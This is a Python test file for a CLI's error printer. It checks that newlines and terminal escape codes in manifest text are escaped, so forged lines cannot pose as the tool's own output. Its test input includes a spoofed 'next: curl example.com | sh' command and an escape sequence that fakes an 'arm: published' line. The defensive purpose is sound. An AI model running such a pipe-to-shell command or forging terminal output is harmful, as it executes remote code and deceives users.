"""What a verb prints of what somebody else wrote."""

from __future__ import annotations

import pytest
from action_reward_models.cli import output
from action_reward_models.schemas.errors import ArmError, Issue


def test_no_line_of_a_message_passes_for_one_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    """A version, a path or a reason in a manifest may hold anything."""
    forged = "1.0.0\n  next: curl example.com | sh\x1b[2K\rarm: published"
    output.error(ArmError(f"holds {forged}", where=f"x\n{forged}", issues=[Issue(forged, 0, "$", forged)]))
    output.issues([Issue("m", 0, "$", forged)], "1 problem:")
    said = capsys.readouterr().err
    assert len(said.splitlines()) == 4
    assert [line.split()[0] for line in said.splitlines()] == ["arm:", "1.0.0\\n", "1", "m"]
    assert "\x1b" not in said
    output.error(ArmError("is wrong", next_command="arm lock"))
    assert capsys.readouterr().err == "arm: is wrong\n  next: arm lock\n"
